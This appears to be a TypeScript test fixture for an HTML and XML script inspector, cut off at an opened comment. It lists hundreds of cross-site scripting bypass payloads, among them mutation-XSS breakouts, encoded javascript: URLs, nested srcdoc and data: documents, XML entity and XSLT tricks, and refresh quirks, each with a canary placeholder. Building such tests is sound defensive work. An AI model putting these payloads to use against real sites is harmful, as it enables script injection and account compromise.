/**
 * Documents with scripts that code misses if it looks only at tags, and harmless lookalikes. `RUN` stands for a call
 * that reports to the top page, `REFERENCES` for the same call in character references, and `BASE64` for the call in
 * base64. Browsers decide which documents run (active.test.ts).
 */

/** A body and its media type, with a placeholder for the canary. */
export interface Payload {
  kind: string;
  type: string;
  text: string;
  /** How the text is encoded. Default: UTF-8. */
  encode?: (text: string) => Uint8Array;
  /** The payload that differs from this one only in the canary or the type. */
  variantOf?: Payload;
}

type Hidden = readonly [kind: string, ...texts: string[]];

/** Chooses one of the payloads in turn, and makes the others its variants. */
function variants(turn: number, payloads: readonly Payload[]): Payload[] {
  const [first, ...others] = payloads.map(
    (_, index) => payloads[(turn + index) % payloads.length] as Payload,
  );
  return first ? [first, ...others.map((other) => ({ ...other, variantOf: first }))] : [];
}

const times = (count: number, piece: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => piece(index)).join('');
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const srcdoc = (text: string): string => `<iframe srcdoc="${escaped(text)}"></iframe>`;
const framed = (depth: number, text: string): string =>
  depth === 0 ? text : framed(depth - 1, srcdoc(text));
/** Returns a text as a data: URL for use within markup. */
const nested = (type: string, text: string): string =>
  `data:${type},${encodeURIComponent(text).replaceAll("'", '%27')}`;

const image = '<img src=data:, onerror=RUN>';
const xhtmlNs = 'http://www.w3.org/1999/xhtml';
const svgNs = 'http://www.w3.org/2000/svg';

/** Elements that run by themselves everywhere HTML is allowed. */
const canaries: readonly string[] = [
  '<script>RUN</script>',
  image,
  '<svg onload=RUN></svg>',
  '<iframe src=javascript:RUN></iframe>',
  '<style onload=RUN></style>',
];

/**
 * HTML after which a parser may mistake elements for text. A canary is added after each; nothing needs to follow the
 * canary.
 */
const openings: Record<string, readonly string[]> = {
  noscript: [
    '<noscript><style></noscript>',
    '<noscript><!--</noscript>',
    '<body><noscript><!-- </noscript>',
    '<noscript><p title="</noscript>',
    '<noscript><title></noscript>',
    '<p><noscript><textarea></noscript>',
    '<p><noscript><script></noscript>',
    '<noscript><xmp></noscript>',
    '<noscript><svg><![CDATA[</noscript>',
    '<noscript><template></noscript>',
    '<noscript><plaintext></noscript>',
    '<svg><noscript><style></noscript></svg></style>',
  ],
  math: [
    '<math><annotation-xml><style>',
    '<math><annotation-xml encoding=text/xml><style>',
    '<math><annotation-xml encoding="text/html"><![CDATA[>',
    '<math><annotation-xml encoding=APPLICATION/xhtml+xml><svg><![CDATA[]]><style>',
    '<math><mtext><mglyph><style>',
    '<math><mi><malignmark><xmp>',
    '<math><mo><mglyph><svg><mtext><style>',
    '<math><title><style>',
    '<math><desc><textarea>',
    '<math><foreignObject><style>',
    '<math><style>',
    '<math><mtext><svg><style>',
    '<math><ms><p></p><mglyph><noembed>',
    '<math><semantics><annotation-xml encoding="text/htm"><iframe>',
    '<form><math><mtext></form><mglyph><svg><mtext><textarea>',
    '<math><mtext><table><mglyph><style>',
  ],
  svg: [
    '<svg><style>',
    '<svg><title><svg><style>',
    '<svg><desc></desc><style>',
    '<svg><mi><style>',
    '<svg><mtext><textarea>',
    '<svg><annotation-xml encoding=text/html><style>',
    '<svg><foreignObject></foreignObject><xmp>',
    '<svg><foreignObject><math><annotation-xml><style>',
    '<svg><foreignObject><![CDATA[>',
    '<svg><desc><![CDATA[>',
    '<svg><title><![CDATA[>',
    '<svg><a><title/><style>',
    '<svg/><![CDATA[>',
    '<svg><style/><plaintext>',
    '<svg><script/><title/><noembed>',
    '<svg><textarea>',
    '<svg><noframes>',
    '<svg><plaintext>',
    '<svg><iframe>',
    '<SVG><StYlE>',
  ],
  breakout: [
    '<svg><p><style></style><![CDATA[>',
    '<svg></p><![CDATA[>',
    '<svg></br><![CDATA[>',
    '<svg><font color=red><![CDATA[>',
    '<svg><font FACE><![CDATA[>',
    '<svg><font><style>',
    '<svg><div></svg><![CDATA[>',
    '<svg><g></svg><![CDATA[>',
    '<svg><g></G></SVG><![CDATA[>',
    '<math><b></b><![CDATA[>',
    '<math><mi></math><![CDATA[>',
    '<p><svg></p><![CDATA[>',
    '<table><svg><tr><![CDATA[>',
    '<table><td><svg></td><![CDATA[>',
    '<table><svg></table><![CDATA[>',
    '<b><math><mtext></b></mtext></math><![CDATA[>',
    '<svg><sub><![CDATA[>',
    '<math><h1><![CDATA[>',
    '<a><svg><a><foreignObject></a></svg><![CDATA[>',
  ],
  'text that ends early': [
    '<!-->',
    '<!--->',
    '<!-- --!>',
    '<!>',
    '<!x ">',
    '<?x ">',
    '</ ">',
    '<![CDATA[>',
    '<!--x--!>',
    '<!-- <!-- -->',
    '<!-- <!--> ',
    '<!---!> -->',
    '<title></title/>',
    '<title></TITLE\n>',
    '<title></title x=">">',
    '<textarea></textarea >',
    '<style></style\t>',
    '<style><!--</style>',
    '<xmp></xmp/>',
    '<iframe></iframe>',
    '<noembed></noembed>',
    '<noframes></noframes>',
    '<script><!--</script>',
    '<script><!--<script></script></script>',
    '<script><!--<script>--></script>',
    '<script type=x></script>',
    '<a title="<style>">',
    "<a title='<!--'>",
    '<a title=<!-->',
    '<a =">',
    '<a "=">">',
    '<a b= >',
    '<a/b=">">',
    '<a title=`>`>',
  ],
  'tags that are none': [
    '<template><col><style></template>',
    '<template><col><xmp></template>',
    '<template><tr><frame><textarea></template>',
    '<frame><style></style>',
    '<table><style></style></table>',
    '<select><option><style></style></select>',
    '<select></select><style></style>',
    '<select><textarea></textarea></select>',
    '<select><input><xmp></xmp>',
    '<template></template><style></style>',
    '<body><frameset><style></style>',
    'x<frameset><xmp></xmp>',
    '<title/></title>',
    '<3<style </style>',
    '<style',
    '</style><plaintext',
    '<table><colgroup><style></style><xmp></xmp>',
    '<table><caption><style></style></caption>',
    '<head></head><style></style>',
    '</body></html><style></style>',
    '<button><select></button><xmp></xmp>',
    '<image><style></style>',
    '<keygen><style></style>',
    '<isindex><style></style>',
    '<\0style>',
    '<style\0>',
  ],
};

const inHtml = (kind: string, text: string): Payload => ({ kind, type: 'text/html', text });

/** Framesets: HTML's alternative to a body. */
const framesets: Hidden = [
  'frameset',
  '<frameset onload=RUN>',
  '<frameset><frame src=javascript:RUN>',
  '<frameset><frame onload=RUN>',
  '<frameset><style><frame src=javascript:RUN>',
  '<frameset><xmp><frame onload=RUN>',
  '<frameset><textarea><frame onload=RUN>',
  '<frameset><title><frame onload=RUN>',
  '<frameset><script><frame onload=RUN>',
  '<frameset><noembed><frame onload=RUN>',
  '<frameset><iframe><frame onload=RUN>',
  '<frameset><plaintext><frame onload=RUN>',
  '<frameset><svg><![CDATA[><frame onload=RUN>',
  '<frameset><noframes></noframes><frame onload=RUN>',
  '<frameset><template><frame onload=RUN>',
  '<p></p><frameset onload=RUN>',
  '<svg></svg><p><frameset onload=RUN>',
  '<div><frameset><style><frame onload=RUN>',
  '<frameset></frameset><noscript><style></noscript><html onload=RUN>',
  '<frameset><noscript><style></noscript><frame onload=RUN>',
  `<frameset><frame src="${nested('text/html', '<script>RUN</script>')}">`,
];

const attributeNoise = (count: number) => times(count, (index) => ` a${index}=${index}`);
const zeros = '0'.repeat(40);
const attributes: Hidden = [
  'attributes',
  ...[100, 127, 128, 129, 1000, 5000].flatMap((count) => [
    `<img src=data:, ${attributeNoise(count)} onerror=RUN>`,
    `<svg${attributeNoise(count)} onload=RUN>`,
    `<iframe${attributeNoise(count)} src=javascript:RUN></iframe>`,
    `<iframe${attributeNoise(count)} srcdoc="<script>RUN</script>"></iframe>`,
  ]),
  `<img ${'x'.repeat(200)} src=data:, onerror=RUN>`,
  `<img ${'/'.repeat(300)} src=data:, onerror=RUN>`,
  '<img src=data:, a=1 a=2 onerror=RUN onerror=2>',
  '<img/src=data:,/onerror=RUN>',
  '<img src=data:, ONERROR = RUN>',
  '<img\fsrc=data:,\fonerror\f=\fRUN>',
  '<img src="data:,"onerror=RUN>',
  '<img """ src=data:, onerror=RUN>',
  '<img <x src=data:, onerror=RUN>',
  '<img =x src=data:, onerror=RUN>',
  '<body onload=RUN>',
  '<p><body onload=RUN>',
  '<p>x<body id=a><body onload=RUN>',
  '<table><body onload=RUN>',
  `<details open ontoggle=RUN>x`,
  '<video><source src=data:, onerror=RUN></video>',
  '<video src=data:, onerror=RUN></video>',
  '<audio src=data:, onerror=RUN></audio>',
  '<image src=data:, onerror=RUN>',
  '<input type=image src=data:, onerror=RUN>',
  '<link rel=stylesheet href=data:text/css, onload=RUN>',
  '<script src=data:, onload=RUN></script>',
  '<object data=javascript:RUN></object>',
  '<embed src=javascript:RUN>',
  '<object data=data:x/x,x onerror=RUN></object>',
  '<input autofocus onfocus=RUN>',
  '<x tabindex=1 autofocus onfocus=RUN>',
  `<${'x'.repeat(150)} tabindex=1 autofocus onfocus=RUN>`,
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><set onbegin=RUN attributeName=x dur=1s></set></svg>',
  '<svg><image href=data:, onerror=RUN></image></svg>',
  '<style>@keyframes a{}b{animation:a 1ms}</style><b onanimationstart=RUN>x</b>',
  '<marquee onstart=RUN>x</marquee>',
];

const references: Hidden = [
  'references',
  `<iframe src="javascrip&#${zeros}116;:RUN"></iframe>`,
  `<iframe src="javascript&#x${zeros}3a;RUN"></iframe>`,
  `<iframe src="javascript&#X${zeros}3AzRUN"></iframe>`,
  `<iframe src="javascript&#${zeros}58 RUN"></iframe>`,
  '<iframe src="java&Tab;script&colon;RUN"></iframe>',
  '<iframe src="java&NewLine;script:RUN"></iframe>',
  '<iframe src="&#1;javascript:RUN"></iframe>',
  '<iframe src=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN></iframe>',
  '<iframe src="\x01javascript:RUN"></iframe>',
  '<iframe src="j\na\tv\ra\nscript:RUN"></iframe>',
  '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
  '<iframe srcdoc="&LT;script&GT;RUN&LT;/script&GT;"></iframe>',
  `<iframe srcdoc="&#${zeros}60;script>RUN</script>"></iframe>`,
  `<iframe srcdoc="&#x${zeros}3c;script>RUN</script>"></iframe>`,
  '<iframe srcdoc="&lt;img src=data:, onerror=RUN&gt"></iframe>',
  '<iframe srcdoc="&lt;img src=data:, onerror=RUN &nvgt;"></iframe>',
  '<iframe srcdoc="<img src=data:,&Tab;onerror&equals;RUN>"></iframe>',
  '<iframe srcdoc="<img src&equals;data:,&NewLine;onerror=RUN>"></iframe>',
  '<iframe srcdoc="<a title=&quot>&quot><script>RUN</script>"></iframe>',
  '<iframe srcdoc="<a title=&apos;>&apos;><script>RUN</script>"></iframe>',
  '<iframe srcdoc="<s&#99;ript>RUN&lt;&sol;script>"></iframe>',
  '<iframe srcdoc="<svg onload=RUN&sol;>"></iframe>',
  '<iframe srcdoc="<script>RUN&#x3c/script>"></iframe>',
  '<iframe srcdoc="<script>&lowbar;=RUN</script>"></iframe>',
  '<iframe srcdoc="<!&hyphen;&#45;> <script>RUN</script>"></iframe>',
  '<img src=data:, onerror="REFERENCES">',
  '<img src=data:, &#111;nerror=RUN onerror=&#32;RUN>',
];

const depths: Hidden = [
  'srcdoc',
  ...[1, 2, 3, 4, 5, 6, 8, 10].flatMap((depth) =>
    canaries.slice(0, depth > 5 ? 1 : 3).map((canary) => framed(depth, canary)),
  ),
  `<svg><foreignObject>${srcdoc('<script>RUN</script>')}`,
  `<noscript><style></noscript>${srcdoc('<noscript><!--</noscript><script>RUN</script>')}`,
];

/** Documents in data: URLs that are nested deeper than the inspection goes. */
const nestings: readonly Payload[] = [1, 2, 3, 4, 5, 6].flatMap((depth) => {
  const wrap = (text: string, type: string, element: (url: string) => string): string => {
    let document = text;
    for (let level = 0; level < depth; level++) document = element(nested(type, document));
    return document;
  };
  return [
    inHtml(
      'nested',
      wrap('<script>RUN</script>', 'text/html', (url) => `<iframe src="${url}"></iframe>`),
    ),
    inHtml(
      'nested',
      wrap(image, 'text/html', (url) => `<object data="${url}"></object>`),
    ),
  ];
});

const scripts: Hidden = [
  'scripts',
  '<script language=x type=text/javascript>RUN</script>',
  '<script language=JavaScript1.2>RUN</script>',
  '<script type="">RUN</script>',
  '<script type=" text/javascript ">RUN</script>',
  '<script type=module>RUN</script>',
  '<script type=TEXT/JScript>RUN</script>',
  '<script type=text/x-ecmascript>RUN</script>',
  '<script for=window event=onload>RUN</script>',
  '<script src=data:text/javascript,RUN></script>',
  '<script src=data:,RUN></script>',
  '<script src="DATA:image/svg;base64,BASE64"></script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href=data:text/javascript,RUN></script></svg>',
  '<svg><script xlink:href=data:text/javascript,RUN></script></svg>',
  '<svg><script><![CDATA[RUN]]></script></svg>',
  '<svg><script>REFERENCES</script></svg>',
  '<svg><style></style><script>RUN</script></svg>',
  '<math><mtext><script>RUN</script></mtext></math>',
  '<table><script>RUN</script></table>',
  '<select><script>RUN</script></select>',
  '<script><!--\nRUN\n--></script>',
  '<script><!-- <script>\nRUN\n</script>',
  '<script>\n<!-- <script> </script> -->\nRUN\n</script>',
  '<div><template shadowrootmode=open><script>RUN</script></template></div>',
  '<div><template shadowrootmode=closed><img src=data:, onerror=RUN></template></div>',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
  '<link rel=modulepreload href=data:text/javascript,RUN><script type=module src=data:text/javascript,RUN></script>',
];

/** Texts that begin like XML. In XML, they would hide the script; in HTML, they do not. */
const xmlFronts: readonly string[] = [
  `<svg xmlns="${svgNs}">`,
  '<?xml version="1.0"?>',
  `<?xml version="1.0"?><svg xmlns="${svgNs}">`,
  `<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="${svgNs}">`,
  '<?xml version="1.0" encoding="utf-8"?><rss>',
];
const xmlHides: readonly string[] = [
  '<p/><![CDATA[><script>RUN</script>]]>',
  '<?x ><script>RUN</script>?>',
  '<p/><?x ><img src=data:, onerror=RUN> ?>',
  '<!--><script>RUN</script>-->',
  '<desc><![CDATA[><script>RUN</script>]]></desc>',
  '<desc><style><![CDATA[</style><script>RUN</script>]]></style></desc>',
  '<br/><style><![CDATA[</style><img src=data:, onerror=RUN>]]></style>',
  '<p a="\'"/><![CDATA[><svg onload=RUN></svg>]]>',
];
const likeXml: readonly string[] = [
  ...xmlFronts.flatMap((front) => xmlHides.map((hidden) => front + hidden)),
  '<!DOCTYPE svg [<!ENTITY a "><script>RUN</script>">]><svg/>',
  '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a \'><img src=data:, onerror=RUN>\'>]><html/>',
  '<!DOCTYPE html PUBLIC "><script>RUN</script>"><html/>',
  '<?xml-stylesheet href="><script>RUN</script>"?><svg/>',
];

/** XML documents with the types that browsers parse as XML. */
const xmlTypes = [
  'application/xhtml+xml',
  'image/svg+xml',
  'text/xml',
  'application/xml',
  'application/mathml+xml',
];
const long = 'p'.repeat(200);
const html = (inner: string, front = '', more = ''): string =>
  `${front}<html xmlns="${xhtmlNs}"${more}><body>${inner}</body></html>`;
const svg = (inner: string, front = '', more = ''): string =>
  `${front}<svg xmlns="${svgNs}"${more}>${inner}</svg>`;
const subset = (declarations: string, root = 'svg'): string => `<!DOCTYPE ${root} [${declarations}]>`;
const xlinked = ' xmlns:xlink="http://www.w3.org/1999/xlink"';
const scriptOf = (ns: string): string => `<script xmlns='${ns}'>RUN</script>`;

const xmlDocuments: Record<string, readonly string[]> = {
  plain: [
    svg('<script>RUN</script>'),
    svg('', '', ' onload="RUN"'),
    html('<script>RUN</script>'),
    html('<img src="data:," onerror="RUN"/>'),
    html('<script><![CDATA[RUN]]></script>'),
    svg('<script><!--x-->RUN</script>'),
    svg('<script href="data:text/javascript,RUN"/>'),
    svg('<script xlink:href="data:text/javascript,RUN"/>', '', ' xmlns:xlink="http://www.w3.org/1999/xlink"'),
    svg('<script y:href="data:text/javascript,RUN"/>', '', ' xmlns:y="http://www.w3.org/1999/xlink"'),
    svg(`<foreignObject><iframe xmlns="${xhtmlNs}" src="javascript:RUN"/></foreignObject>`),
    html('<iframe srcdoc="&lt;script>RUN&lt;/script>"/>'),
    html('<object data="javascript:RUN"/>'),
    html('<body onload="RUN"/>'),
    `<r>${scriptOf(xhtmlNs)}</r>`,
    `<r>${scriptOf(svgNs)}</r>`,
    svg('<title><style>a</style></title><script>RUN</script>'),
    svg('<animate onbegin="RUN" attributeName="x" dur="1s"/>'),
    `\ufeff${svg('<script>RUN</script>')}`,
    `\ufeff\ufeff${svg('<script>RUN</script>')}`,
    `<?xml version="1.0" standalone="yes"?>\n<!-- a -->\n${svg('<script>RUN</script>')}`,
    svg('<script>REFERENCES</script>'),
    svg('<script><?x ?>RUN</script>'),
  ],
  prefixes: [
    `<r xmlns:x="${xhtmlNs}"><x:script>RUN</x:script></r>`,
    `<x:svg xmlns:x="${svgNs}" onload="RUN"/>`,
    `<x:svg xmlns:x="${svgNs}"><x:script>RUN</x:script></x:svg>`,
    `<r xmlns:${long}="${xhtmlNs}"><${long}:script>RUN</${long}:script></r>`,
    `<${long}:svg xmlns:${long}="${svgNs}" onload="RUN"/>`,
    svg(
      `<script ${long}:href="data:text/javascript,RUN"/>`,
      '',
      ` xmlns:${long}="http://www.w3.org/1999/xlink"`,
    ),
    `<${long} xmlns="${xhtmlNs}"><img src="data:," onerror="RUN"/></${long}>`,
    `<é:svg xmlns:é="${svgNs}" onload="RUN"/>`,
    `<_:svg xmlns:_="${svgNs}"><_:script>RUN</_:script></_:svg>`,
    `<r xmlns="x"><s xmlns="${svgNs}"/><q:script xmlns:q="${xhtmlNs}">RUN</q:script></r>`,
    `<r xmlns="&#${zeros}104;ttp://www.w3.org/1999/xhtml"><script>RUN</script></r>`,
    `<r xmlns="http://www.w3.org/1999&#x2f;xhtml"><img src="data:," onerror="RUN"/></r>`,
    `<r xmlns:a="${svgNs}" xmlns:b="${xhtmlNs}"><a:g xmlns:a="${xhtmlNs}"><a:script>RUN</a:script></a:g></r>`,
  ],
  attributes: [127, 128, 129, 1000].flatMap((count) => [
    svg('', '', `${times(count, (index) => ` a${index}="1"`)} onload="RUN"`),
    html(`<img ${times(count, (index) => ` a${index}="1"`)} src="data:," onerror="RUN"/>`),
  ]),
  'what hides nothing': [
    svg('<!-- > <script> --><script>RUN</script>'),
    svg('<![CDATA[<!--]]><script>RUN</script><![CDATA[-->]]>'),
    svg('<?x <!-- ?><script>RUN</script><?x --> ?>'),
    svg('<style><!-- </style> --></style><script>RUN</script>'),
    svg('<style><![CDATA[</style><!--]]></style><script>RUN</script>'),
    svg('<title><![CDATA[<]]></title><script>RUN</script>'),
    svg('<desc a="&lt;!--"/><script>RUN</script>'),
    svg(`<desc a="/>"/><script>RUN</script>`),
    svg('<textarea><script>RUN</script></textarea>'),
    html('<title><script>RUN</script></title>'),
    html('<textarea><script>RUN</script></textarea>'),
    html('<noscript><script>RUN</script></noscript>'),
    html('<style><script>RUN</script></style>'),
    html('<xmp><script>RUN</script></xmp>'),
    html('<iframe><script>RUN</script></iframe>'),
    html('<plaintext><script>RUN</script></plaintext>'),
    html('<select><script>RUN</script></select>'),
    html('<frameset><script>RUN</script></frameset>'),
    `<!DOCTYPE svg SYSTEM "[">${svg('<script>RUN</script>')}`,
    `<!DOCTYPE svg [<!-- ]> --><?x ]> ?><!ENTITY a "]>">]>${svg('<script>RUN</script>')}`,
    `<!DOCTYPE svg [<!-- ' --> <?x " ?>]>${svg('<script>RUN</script>')}`,
  ],
  'document types': [
    svg('&s;', subset(`<!ENTITY s "${scriptOf(svgNs)}">`)),
    svg('&s;', subset(`<!ENTITY s "<script>RUN</script>">`)),
    svg('&a;', subset('<!ENTITY a "&b;"><!ENTITY b "&#60;script>RUN&#60;/script>">')),
    svg('<script>&r;</script>', subset('<!ENTITY r "RUN">')),
    svg('', subset('<!ENTITY r "RUN">'), ' onload="&r;"'),
    `${subset(`<!ENTITY n "${svgNs}">`)}<svg xmlns="&n;" onload="RUN"/>`,
    `${subset(`<!ENTITY n "${svgNs}">`)}<svg xmlns="&n;"><script>RUN</script></svg>`,
    `${subset(`<!ENTITY n "www.w3.org"><!ENTITY m "http://&n;/2000/svg">`)}<svg xmlns="&m;"><script>RUN</script></svg>`,
    `${subset(`<!ATTLIST svg xmlns CDATA #FIXED "${svgNs}">`)}<svg><script>RUN</script></svg>`,
    `${subset(`<!ATTLIST svg xmlns CDATA "${svgNs}" onload CDATA 'RUN'>`)}<svg/>`,
    svg('<g/>', subset('<!ATTLIST svg onload CDATA "RUN">')),
    svg('<script/>', subset('<!ATTLIST script href CDATA "data:text/javascript,RUN">')),
    svg('', subset(`<!ENTITY % p "<!ATTLIST svg onload CDATA 'RUN'>">%p;`)),
    svg('&s;', subset(`<!ENTITY % p "<!ENTITY s '<script>RUN</script>'>">%p;`)),
    svg('&s;', subset(`<!ENTITY &#37; p "x"><!ENTITY s "<script>RUN</script>">`)),
    svg(
      '&s;',
      subset(`<!ENTITY % q "<!ENTITY s '&#60;script>RUN&#60;/script>'>"><!ENTITY % p "&#37;q;">%p;`),
    ),
    svg('<desc>&s;</desc>', `<!DOCTYPE svg PUBLIC "a" "b" [<!ENTITY s "<script>RUN</script>">]>`),
    svg('&a;&a;', subset('<!ENTITY a "<g><script>RUN</script></g>">')),
    `${subset(`<!ENTITY e "<x:script xmlns:x='${xhtmlNs}'>RUN</x:script>">`, 'r')}<r>&e;</r>`,
    html('&s;', subset('<!ENTITY s "<script>RUN</script>">', 'html')),
    html('<iframe srcdoc="&s;"/>', subset('<!ENTITY s "&#38;lt;script>RUN&#38;lt;/script>">', 'html')),
    html('<iframe src="&s;"/>', subset('<!ENTITY s "javascript:RUN">', 'html')),
    html('<iframe src="java&s;RUN"/>', subset('<!ENTITY s "script:">', 'html')),
    html('<img/>', subset('<!ATTLIST img src CDATA "data:," onerror CDATA "RUN">', 'html')),
    svg('<x:script>RUN</x:script>', subset(`<!ATTLIST svg xmlns:x CDATA "${xhtmlNs}">`)),
    svg('', subset(`<!ENTITY % a "CDATA"><!ENTITY % b "<!ATTLIST svg onload &#37;a; 'RUN'>">%b;`)),
    svg('', subset('<!ATTLIST svg x (a|b)"a" onload CDATA "RUN">')),
    svg('', subset('<!ATTLIST svg x CDATA"a"onload CDATA"RUN">')),
    svg('', subset('<!ATTLIST svg x NOTATION(a) #IMPLIED onload CDATA "RUN">')),
    svg('', subset('<!ATTLIST svg onload (RUN|b) "RUN">')),
    svg('<script>RUN</script>', subset('<!ATTLIST script type CDATA #IMPLIED type CDATA "x/y">')),
    svg('<script>&s;</script>', subset('<!ENTITY s "<a/>RUN">')),
    svg('&s;', subset('<!ENTITY s "&#60;!-- -->&#60;script>RUN&#60;/script>">')),
    svg('&s;', subset(`<!ENTITY s "<![CDATA[<]]><script>RUN</script>">`)),
    svg(
      '&t;',
      subset(
        times(10, (index) => `<!ENTITY s${index} "&s${index + 1};">`) +
          '<!ENTITY s10 "<script>RUN</script>"><!ENTITY t "&s0;">',
      ),
    ),
  ],
  'broken behind it': [
    svg('<script>RUN</script><a></b>'),
    svg('<script>RUN</script>&undefined;'),
    svg('<script>RUN</script><a b></a>'),
    `${svg('<script>RUN</script>')}<second/>`,
    `<svg xmlns="${svgNs}"><script>RUN</script>`,
    `<svg xmlns="${svgNs}"><script>RUN</script><`,
    html('<script>RUN</script><br>'),
    html('<img src="data:," onerror="RUN"/><br>'),
  ],
  'broken in front of it': [
    svg('<a></b><script>RUN</script>'),
    svg('&undefined;<script>RUN</script>'),
    svg('<a b></a><script>RUN</script>'),
    svg('<a b=c/><script>RUN</script>'),
    svg('<a b="1" b="2"/><script>RUN</script>'),
    svg('<a b="<"/><script>RUN</script>'),
    svg('<a b="1"c="2"/><script>RUN</script>'),
    svg('<!-- -- --><script>RUN</script>'),
    svg('<x:a/><script>RUN</script>'),
    svg('<a x:b="1"/><script>RUN</script>'),
    svg('<a b="&c;"/><script>RUN</script>'),
    svg('&#0;<script>RUN</script>'),
    svg(']]><script>RUN</script>'),
    svg('\x01<script>RUN</script>'),
    svg('<1/><script>RUN</script>'),
    svg('<?xml x?><script>RUN</script>'),
    svg('<a:b:c xmlns:a="x"/><script>RUN</script>'),
    ` <?xml version="1.0"?>${svg('<script>RUN</script>')}`,
    `x${svg('<script>RUN</script>')}`,
    `<a/>${svg('<script>RUN</script>')}`,
    `<!DOCTYPE a><!DOCTYPE b>${svg('<script>RUN</script>')}`,
    `${svg('')}${svg('<script>RUN</script>')}`,
    `<!DOCTYPE svg [<!ENTITY a>]>${svg('<script>RUN</script>')}`,
    `<!DOCTYPE svg [<!ENTITY a "&b;">]>${svg('<desc a="&a;"/><script>RUN</script>')}`,
    `<!DOCTYPE svg [<!ENTITY a "&a;">]>${svg('<script>RUN</script>')}`,
    `<!DOCTYPE svg [<!ENTITY a "<b>">]>${svg('&a;<script>RUN</script>')}`,
    `<!DOCTYPE svg SYSTEM "x">${svg('&a;<script>RUN</script>')}`,
    `<?xml version="1.1"?>${svg('<script>RUN</script>')}`,
    `<?xml version="2.0"?>${svg('<script>RUN</script>')}`,
    svg('<a xmlns:xml="x"/><script>RUN</script>'),
    svg('<a xmlns:b=""/><script>RUN</script>'),
    svg('<a xmlns:c="x" xmlns:d="x" c:e="" d:e=""/><script>RUN</script>'),
  ],
};

const stylesheet = (body: string): string =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${body}</xsl:template></xsl:stylesheet>`;
const built = stylesheet(
  `<html xmlns="${xhtmlNs}"><body><xsl:element name="script" namespace="${xhtmlNs}">RUN</xsl:element></body></html>`,
);
const transformed: readonly string[] = [
  ...['text/xsl', 'text/xml', 'application/xml', 'application/xslt+xml'].map(
    (type) => `<?xml-stylesheet type="${type}" href="${nested(type, built)}"?><r/>`,
  ),
  `<?xml-stylesheet href='${nested('text/xsl', built)}' type='text/xsl'?><svg xmlns="${svgNs}"/>`,
  `<?xml-stylesheet type="text/xsl" href="#s"?><r>${built.replace('version', 'id="s" version')}</r>`,
  `<?xml-stylesheet type="text/xsl" href="#s"?>${subset('<!ATTLIST xsl:stylesheet id ID #IMPLIED>', 'r')}<r>${built.replace('version', 'id="s" version')}</r>`,
  `<?xml-stylesheet type="text/&#120;sl" href="${nested('text/xsl', built)}"?><r/>`,
  `<?xml-stylesheet title="a" type="text/xsl" href="${nested('text/xsl', built)}"?><r/>`,
  `<?xml-stylesheet title="${long.repeat(30)}" type="text/xsl" href="${nested('text/xsl', built)}"?><r/>`,
  `<?xml-stylesheet href="${nested('text/xsl', built)}"type="text/xsl"?><r/>`,
  `<!DOCTYPE r [<?xml-stylesheet type="text/xsl" href="${nested('text/xsl', built)}"?>]><r/>`,
];

/** Attributes in another namespace, or with an undeclared prefix. They have no effect. */
const otherNames: Hidden = [
  'other names',
  '<script xlink:type=x/y>RUN</script>',
  '<script XLINK:TYPE=x type=module>RUN</script>',
  '<script xlink:language=vbscript>RUN</script>',
  '<script xlink:nomodule>RUN</script>',
  '<script xlink:for=a event=b>RUN</script>',
  '<svg><script xlink:type=simple>RUN</script></svg>',
  '<iframe xlink:sandbox srcdoc="<script>RUN</script>"></iframe>',
  `<meta xlink:http-equiv=x http-equiv=refresh content="0;url=${nested('text/html', '<script>RUN</script>')}">`,
];
/**
 * Attributes in XML that have no effect, because they are in another namespace or because names are case-sensitive; and
 * scripts whose text follows nested elements.
 */
const inXml: readonly string[] = [
  '<script xlink:type="simple">RUN</script>',
  '<script xlink:language="x">RUN</script>',
  '<script xlink:nomodule="">RUN</script>',
  '<script TYPE="x/y">RUN</script>',
  '<script LANGUAGE="vb">RUN</script>',
  '<script NoModule="">RUN</script>',
  '<script For="a" Event="b">RUN</script>',
  `<iframe xmlns="${xhtmlNs}" SANDBOX="" srcdoc="&lt;script>RUN&lt;/script>"/>`,
  '<script><a/>RUN</script>',
  '<script><a>x</a>RUN</script>',
  '<script><style/>RUN</script>',
  '<script><title>a</title>RUN</script>',
  '<script><script/>RUN</script>',
  '<script><x xmlns="urn:x"/>RUN</script>',
  '<script><a/><![CDATA[RUN]]></script>',
];
const scriptsWithElements: Hidden = [
  'scripts with elements',
  '<svg><script><g/>RUN</script></svg>',
  '<svg><script><g>x</g>;RUN</script></svg>',
  '<svg><script><style/>RUN</script></svg>',
  '<svg><script><desc></desc>RUN</script></svg>',
  '<svg><script></x>RUN</script></svg>',
];

/** A refresh whose URL is far from the number of seconds, and a template that Chromium inserts at a marked position. */
const farAway: Hidden = [
  'far away',
  ...['0'.repeat(1500), ' '.repeat(1500), `0;${' '.repeat(1500)}`].map(
    (front) =>
      `<meta http-equiv=refresh content="${front};url=${nested('text/html', '<script>RUN</script>')}">`,
  ),
  `<div><?start name="x"><?end></div><template for="x">${image}</template>`,
];

/** Refresh values that both browsers or only one of them follow. */
const followed = [
  '\v0;',
  '0\v;',
  '\u20030;',
  '0\u2028,',
  '0\v\f;',
  '0;url=\u2003',
  '.;',
  '..;',
  '.5;',
  '0..5,',
  '0 ',
]
  .map((front) => front + (front.includes('url') ? '' : 'url='))
  .concat("0;'", '0 ', '0;url=\x01', '0;\nurl\n=\n');
const notFollowed = [
  ...[
    '+0;',
    '-0;',
    ';',
    '',
    ',',
    '0',
    '0;;',
    '0; ;',
    '0x;',
    '0:',
    '0;\v',
    '0\u00a0;',
    '\ufeff0;',
    '0\u0085;',
    '.',
  ].map((front) => `${front}url=`),
  ...['0;ur=', '0;url ', '0;url=url=', '0;url\v=', '0', '0;url=""', '0;url=\u00a0', '0;url=='],
];
const refreshes = (fronts: readonly string[]): Payload[] =>
  fronts.map((front) => ({
    kind: 'refresh',
    type: 'text/html;charset=utf-8',
    text: `<meta http-equiv=refresh content="${escaped(front + nested('text/html', '<script>RUN</script>'))}">`,
  }));

/**
